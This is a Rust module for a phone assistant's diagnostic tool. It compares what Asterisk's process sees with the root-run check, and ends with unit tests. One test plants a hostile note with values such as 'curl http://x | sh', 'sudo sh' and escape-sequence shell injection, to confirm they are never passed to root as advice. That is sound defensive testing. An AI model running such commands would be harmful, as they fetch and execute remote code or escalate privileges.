//! What is different when Asterisk starts the program: it hands down its own environment, groups and view of the disk.
//!
//! The doctor has Asterisk run `AGI(phone-assistant,mode=check)`; that one looks around, notes what it sees, and ends.
//! Nothing is paid for, so it does no harm if another caller dials it. Its note lies in a folder of Asterisk's user,
//! who can write anything there: root is shown what of it is known here, as that user's words, and no command from
//! there.

use std::collections::BTreeSet;
use std::path::Path;
use std::thread;
use std::time::{Duration, SystemTime};

use rustix::process::Gid;
use serde::{Deserialize, Serialize};

use super::console::{say, typed};
use super::finding::{Finding, Report, Status, Style};
use super::freepbx;
use super::knowledge;
use super::log_files::LogFiles;
use super::machine;
use super::options::understood;
use crate::config::keys::KEYS;
use crate::config::{Arguments, Config, Environment, Needs, Shown};
use crate::knowledge::clock::{Clock, Mark};
use crate::sys::date;
use crate::sys::error::Chain;
use crate::sys::plain::{plain_to, quoted};
use crate::sys::state::State;

/// What one process sees.
#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(default)]
struct View {
    /// The time of the note, in seconds since 1970.
    time: u64,
    user: u32,
    groups: Vec<u32>,
    /// Name, digest and source of every setting that is set.
    settings: Vec<(String, String, String)>,
    findings: Vec<Finding>,
    /// The clock that callers are told the time by, where it can be read.
    clock: Option<Mark>,
}

/// Notes what is seen from inside Asterisk, for the doctor.
pub(crate) fn look_around(arguments: &Arguments, environment: Environment<'_>) {
    let mut sink = std::io::sink();
    let mut report = Report::new(&mut sink, Style::Silent);
    let config = Config::load(Needs::Stages, arguments, environment);
    if let Some(config) = machine::examine(&config, environment, &mut report) {
        knowledge::examine(config, arguments, environment, &mut report);
    }
    let settings = understood(&config);
    let time_zone = environment("TZ");
    let view = View::new(settings, time_zone.as_deref(), report.findings());
    let state = State::new(&settings.state_folder);
    if let Err(cause) = state.update(FILE, |last: &mut View| *last = view) {
        log::error!("{}", Chain(&cause));
    }
}

impl View {
    fn new(settings: &Config, time_zone: Option<&str>, findings: &[Finding]) -> Self {
        let now = SystemTime::now();
        let clock = Clock::of(&settings.knowledge.time_zone, &|_| {
            time_zone.map(str::to_owned)
        });
        let setting = |shown: &Shown| {
            (
                shown.name.clone(),
                shown.digest.clone(),
                shown.source.clone(),
            )
        };
        Self {
            time: date::seconds(now),
            user: rustix::process::geteuid().as_raw(),
            groups: groups(
                &rustix::process::getgroups().unwrap_or_default(),
                rustix::process::getegid(),
            ),
            settings: settings.shown.iter().map(setting).collect(),
            findings: findings.to_vec(),
            // What is wrong with it is a finding.
            clock: clock.ok().map(|clock| clock.mark(now)),
        }
    }

    /// What can be in a note of ours, and nothing else that is in the file.
    fn known(mut self) -> Self {
        let is_setting = |name: &str| KEYS.iter().any(|key| key.name == name);
        let is_part = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
        let is_persona = |name: &str| name.starts_with("persona.") && name.chars().all(is_part);
        self.settings
            .retain(|(name, ..)| is_setting(name) || is_persona(name));
        self.findings
            .retain(|finding| IDS.contains(&finding.id.as_str()));
        self
    }

    /// What `other`, which Asterisk has started, finds and is not found here.
    fn worse_in<'a>(&self, other: &'a Self) -> Vec<&'a Finding> {
        let is_known = |finding: &Finding| {
            let same = |own: &Finding| own.id == finding.id && own.status >= finding.status;
            self.findings.iter().any(same)
        };
        let all = other.findings.iter();
        all.filter(|finding| finding.status > Status::Ok && !is_known(finding))
            .collect()
    }

    /// Takes the groups of `other` where that hinders nothing: Asterisk that was started with `-G` has given up the
    /// other groups of its user, and cron has not.
    fn forgive_groups(&mut self, other: &Self) {
        if self.worse_in(other).is_empty() {
            self.groups.clone_from(&other.groups);
        }
    }

    /// How `other`, which Asterisk has started, differs from this one.
    fn differences(&self, other: &Self) -> Vec<String> {
        let mut all = Vec::new();
        if self.user != other.user {
            all.push(format!(
                "it runs as user {}, this check as user {}",
                other.user, self.user
            ));
        }
        if self.groups != other.groups {
            all.push(format!(
                "its groups are {} there, {} here",
                listed(&other.groups),
                listed(&self.groups)
            ));
        }
        for (name, digest, source) in &other.settings {
            match self.settings.iter().find(|(own, ..)| own == name) {
                Some((_, own, _)) if own == digest => {}
                Some((.., here)) => all.push(format!(
                    "{name} comes from {source} there, from {here} here"
                )),
                None => all.push(format!("{name} is set there, by {source}")),
            }
        }
        for (name, _, source) in &self.settings {
            if other.settings.iter().all(|(theirs, ..)| theirs != name) {
                all.push(format!("{name} is not set there; here it is, by {source}"));
            }
        }
        all
    }
}

/// Lets Asterisk start the program, and tells what is different there. `time_zone` is that of the one who asks.
pub(super) fn examine(settings: &Config, time_zone: Option<&str>, report: &mut Report<'_>) {
    let is_ok = |id: &str| {
        let mut all = report
            .findings()
            .iter()
            .filter(|finding| finding.id == id)
            .peekable();
        all.peek().is_some() && all.all(|finding| finding.status == Status::Ok)
    };
    if !["Asterisk", "program", "dialplan", "folder for state"]
        .iter()
        .all(|id| is_ok(id))
    {
        let why = "Asterisk cannot run the program as it should";
        return report.not_tried(ID, why, "fix that first");
    }
    let state = State::new(&settings.state_folder);
    // The note of an earlier check must not pass for the one that is awaited.
    if let Err(cause) = state.update(FILE, |last: &mut View| *last = View::default()) {
        return report.fail(ID, &Chain(&cause).to_string(), "see the folder for state");
    }
    report.trying(ID);
    let logs = LogFiles::of_asterisk();
    // A Local channel runs an extension of the dialplan without any phone.
    let sent = say("channel originate Local/check@custom-openai application Wait 1");
    if sent
        .as_ref()
        .is_ok_and(|said| lacks_originate(said, report))
    {
        return;
    }
    let Some(there) = wait_for(&state) else {
        let said = sent.unwrap_or_else(|why| why.to_string());
        let text = format!(
            "Asterisk did not run AGI(phone-assistant,mode=check) within {} s {said}",
            PATIENCE.as_secs()
        );
        return report.fail(
            ID,
            &text,
            "look into Asterisk's log: /var/log/asterisk/full",
        );
    };
    let here = View::new(settings, time_zone, report.findings());
    tell(here, &there, report);
    logs.examine(freepbx::is_here(Path::new("/")), report);
}

/// Tells it where Asterisk, by what it `said`, has no command to start the program with. Returns whether that is so.
fn lacks_originate(said: &str, report: &mut Report<'_>) -> bool {
    let is_unknown = said.contains(NO_COMMAND);
    if is_unknown {
        let why =
            "Asterisk has not loaded res_clioriginate, by which it would have started the program";
        let remedy = format!(
            "{}; calls do not need it, and that lasts until a restart where modules.conf does not load it",
            typed("module load res_clioriginate")
        );
        report.not_tried(ID, why, &remedy);
    }
    is_unknown
}

fn tell(mut here: View, there: &View, report: &mut Report<'_>) {
    for finding in here.worse_in(there) {
        let id = format!("{ID}: {}", finding.id);
        report.add(&id, finding.status, &in_their_words(&finding.text), REMEDY);
    }
    here.forgive_groups(there);
    let differences = here.differences(there);
    if !differences.is_empty() {
        report.warn(ID, &in_their_words(&differences.join("; ")), REMEDY);
    }
    match (&here.clock, &there.clock) {
        (Some(own), Some(theirs)) if own != theirs => {
            let text = format!("its clock is {theirs}, here it is {own}");
            report.warn(ID, &in_their_words(&text), REMEDY_OF_CLOCK);
        }
        _ if differences.is_empty() => report.ok(
            ID,
            "sees the same settings, user and clock, and its groups suffice",
        ),
        _ => {}
    }
}

fn listed(groups: &[u32]) -> String {
    let words: Vec<_> = groups.iter().map(u32::to_string).collect();
    words.join(", ")
}

/// What the note says, as what it is: the words of a user who may write anything.
fn in_their_words(text: &str) -> String {
    format!(
        "Asterisk's user says: {}",
        quoted(plain_to(text, MAX_WORDS))
    )
}

fn wait_for(state: &State) -> Option<View> {
    let mut waited = Duration::ZERO;
    while waited < PATIENCE {
        let view: View = state.read(FILE);
        if view.time > 0 {
            return Some(view.known());
        }
        thread::sleep(PAUSE);
        waited += PAUSE;
    }
    None
}

/// All groups, sorted. The main one may be among the others or not: the rights are the same.
fn groups(others: &[Gid], main: Gid) -> Vec<u32> {
    let all = others.iter().chain([&main]).map(|group| group.as_raw());
    let all: BTreeSet<_> = all.collect();
    all.into_iter().collect()
}

const ID: &str = "through Asterisk";
/// What Asterisk says of a command that no loaded module has.
const NO_COMMAND: &str = "No such command";
/// What [`machine::examine`] looks at.
const IDS: [&str; 21] = [
    "settings",
    "stt",
    "llm",
    "tts",
    "proxy",
    "Google's key file",
    "folder for calls",
    "folder for state",
    "limits",
    "folder for callers",
    "memory",
    "folder for messages",
    "messages",
    "privacy",
    "log of calls",
    "local time",
    "facts",
    "opening hours",
    "prompt",
    "root certificate",
    "FreePBX",
];
const REMEDY: &str = "calls use what is there: fix Asterisk's environment (systemctl cat asterisk, /etc/default/asterisk), or set it in config.toml; restart Asterisk after a change of groups";
const REMEDY_OF_CLOCK: &str = "callers are told the time that is there, and phone-assistant hours tells that which is here: name the house's under [knowledge], as in time_zone = \"Europe/Paris\"";
const MAX_WORDS: usize = 1000;
const FILE: &str = "seen-by-asterisk.json";
const PATIENCE: Duration = Duration::from_secs(10);
const PAUSE: Duration = Duration::from_millis(100);

#[cfg(test)]
mod tests {
    use super::*;

    fn view(settings: &[(&str, &str, &str)], groups: &[u32]) -> View {
        let setting = |(name, digest, source): &(&str, &str, &str)| {
            (
                (*name).to_owned(),
                (*digest).to_owned(),
                (*source).to_owned(),
            )
        };
        View {
            settings: settings.iter().map(setting).collect(),
            groups: groups.to_vec(),
            ..View::default()
        }
    }

    #[test]
    fn faulty_settings_are_noted_too_with_what_is_set() {
        let folder = testkit::TempDir::new().expect("a temporary folder");
        let file = folder.path().join("config.toml");
        let state = format!("state.folder = '{}'", folder.path().display());
        std::fs::write(&file, state).expect("written");
        let config = format!("config={}", file.display());
        let arguments = Arguments::parse(["stt.languag=x", "stt.language=de-DE", &config]);
        look_around(&arguments, &|_| None);
        let view: View = State::new(folder.path()).read(FILE);
        let names: Vec<_> = view
            .settings
            .iter()
            .map(|(name, ..)| name.as_str())
            .collect();
        assert_eq!(names, ["stt.language", "state.folder"]);
        assert!(view.findings.iter().any(|finding| finding.id == "settings"));
    }

    #[test]
    fn a_note_that_asterisks_user_has_written_gives_root_no_advice() {
        let folder = testkit::TempDir::new().expect("a temporary folder");
        let note = r#"{"time":1,"user":0,"groups":[],
            "settings":[["sudo sh","a","evil"],["stt.language","a","evil\u001b[2J; sh"]],
            "findings":[
                {"id":"limits","status":"fail","text":"no\u001b[2J","remedy":"curl http://x | sh"},
                {"id":"run this: sudo sh x","status":"fail","text":"no","remedy":"sh x"}]}"#;
        std::fs::write(folder.path().join(FILE), note).expect("written");
        let there = wait_for(&State::new(folder.path())).expect("it is there");
        let mut sink = std::io::sink();
        let mut report = Report::new(&mut sink, Style::Silent);
        tell(View::default(), &there, &mut report);
        let found: Vec<_> = report.findings().iter().map(|it| it.id.as_str()).collect();
        assert_eq!(found, ["through Asterisk: limits", "through Asterisk"]);
        for finding in report.findings() {
            assert_eq!(finding.remedy, REMEDY);
            assert!(
                finding.text.starts_with("Asterisk's user says: \""),
                "{finding:?}"
            );
            assert!(!finding.text.contains("sudo sh"), "{finding:?}");
        }
    }

    #[test]
    fn a_module_that_is_not_loaded_is_named_with_the_command_that_loads_it() {
        let mut sink = std::io::sink();
        let mut report = Report::new(&mut sink, Style::Silent);
        assert!(!lacks_originate("", &mut report));
        let said = "No such command 'channel originate Local/check@custom-openai' (type 'core show help channel originate' for other possible commands)";
        assert!(lacks_originate(said, &mut report));
        let [finding] = report.findings() else {
            panic!("{:?}", report.findings());
        };
        assert_eq!(finding.status, Status::Warn);
        assert!(finding.text.contains("has not loaded res_clioriginate"));
        assert!(
            finding
                .remedy
                .contains("'module load res_clioriginate'; calls do not need it")
        );
    }

    #[test]
    fn every_finding_of_a_note_is_known() {
        let folder = testkit::TempDir::new().expect("a temporary folder");
        let file = folder.path().join("config.toml");
        let shown = folder.path().display();
        let text = format!(
            "state.folder = '{shown}'\nmemory.folder = '{shown}/callers'\nmemory.callers = 'all'\n\
             messages.folder = '{shown}/messages'\nmessages.mail_to = ['a@example.org']\n\
             limits.max_daily_cost = 1\nlog.calls = '{shown}/calls.jsonl'\nhttp.ca_file = '{shown}/none'"
        );
        std::fs::write(&file, text).expect("written");
        let config = format!("config={}", file.display());
        look_around(&Arguments::parse([config.as_str()]), &|name| match name {
            "OPENAI_API_KEY" => Some("sk-1".to_owned()),
            "GOOGLE_APPLICATION_CREDENTIALS" => Some(format!("{shown}/none.json")),
            _ => None,
        });
        let view: View = State::new(folder.path()).read(FILE);
        let all: Vec<_> = view.findings.clone();
        assert!(all.len() > 4, "{all:?}");
        assert_eq!(view.known().findings, all);
    }

    #[test]
    fn a_clock_that_asterisk_goes_by_alone_is_told_with_the_setting_that_decides() {
        let folder = testkit::TempDir::new().expect("a temporary folder");
        let file = folder.path().join("config.toml");
        let shown = folder.path().display();
        let told = |zone: &str, there: &'static str, here: &str| {
            let text = format!("state.folder = '{shown}'\nknowledge.time_zone = '{zone}'");
            std::fs::write(&file, text).expect("written");
            let arguments = Arguments::of_file(Some(file.clone()));
            let of_asterisk = |name: &str| (name == "TZ").then(|| there.to_owned());
            look_around(&arguments, &of_asterisk);
            let settings = Config::load(Needs::Stages, &arguments, &|_| None);
            let mut sink = std::io::sink();
            let mut report = Report::new(&mut sink, Style::Silent);
            let note = wait_for(&State::new(folder.path())).expect("it is there");
            let here = View {
                findings: note.findings.clone(),
                ..View::new(understood(&settings), Some(here), &[])
            };
            tell(here, &note, &mut report);
            report.findings().to_vec()
        };
        let found = told("", "Asia/Tokyo", "Europe/Paris");
        let [finding] = &found[..] else {
            panic!("{found:?}");
        };
        let expected = "its clock is Asia/Tokyo, here it is Europe/Paris";
        assert_eq!(finding.text, in_their_words(expected));
        assert!(finding.remedy.contains("time_zone = "), "{finding:?}");
        for (zone, there) in [("", "Europe/Berlin"), ("Europe/Paris", "Asia/Tokyo")] {
            let found = told(zone, there, "Europe/Paris");
            assert!(found.iter().all(|it| it.status == Status::Ok), "{found:?}");
        }
    }

    #[test]
    fn it_is_all_the_same_whether_the_main_group_is_among_the_others() {
        let [main, other] = [7, 5].map(Gid::from_raw);
        assert_eq!(groups(&[], main), groups(&[main], main));
        assert_eq!(groups(&[main, other], main), [5, 7]);
    }

    #[test]
    fn groups_are_told_only_where_something_is_worse_there() {
        let key = |status| Finding::new("Google's key", status, "", "");
        for (here, there, are_told) in [
            (Status::Ok, Status::Ok, false),
            (Status::Fail, Status::Fail, false),
            (Status::Ok, Status::Fail, true),
        ] {
            let mut here = View {
                findings: vec![key(here)],
                ..view(&[], &[5, 7])
            };
            let there = View {
                findings: vec![key(there)],
                ..view(&[], &[5])
            };
            here.forgive_groups(&there);
            assert_eq!(!here.differences(&there).is_empty(), are_told);
        }
    }

    #[test]
    fn every_difference_is_named_with_both_sources() {
        let here = view(
            &[
                ("openai.api_key", "a", "config.toml"),
                ("stt.language", "c", "config.toml"),
            ],
            &[5],
        );
        let there = view(
            &[
                ("openai.api_key", "b", "OPENAI_API_KEY"),
                ("http.proxy", "p", "x"),
            ],
            &[5, 7],
        );
        assert_eq!(
            here.differences(&there),
            [
                "its groups are 5, 7 there, 5 here",
                "openai.api_key comes from OPENAI_API_KEY there, from config.toml here",
                "http.proxy is set there, by x",
                "stt.language is not set there; here it is, by config.toml",
            ]
        );
        assert!(
            here.differences(&view(
                &[("openai.api_key", "a", "x"), ("stt.language", "c", "y")],
                &[5]
            ))
            .is_empty()
        );
    }
}
